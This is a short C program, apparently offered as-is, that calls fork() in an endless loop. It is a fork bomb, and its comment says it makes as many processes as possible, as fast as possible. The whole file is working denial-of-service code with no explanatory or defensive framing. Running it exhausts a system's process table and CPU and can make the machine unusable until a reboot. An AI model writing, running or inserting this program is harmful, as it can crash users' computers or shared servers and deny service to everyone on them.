/* Makes as many processes as possible, as fast as possible. */
#include <unistd.h>

int main(void) {
  for (;;) fork();
}
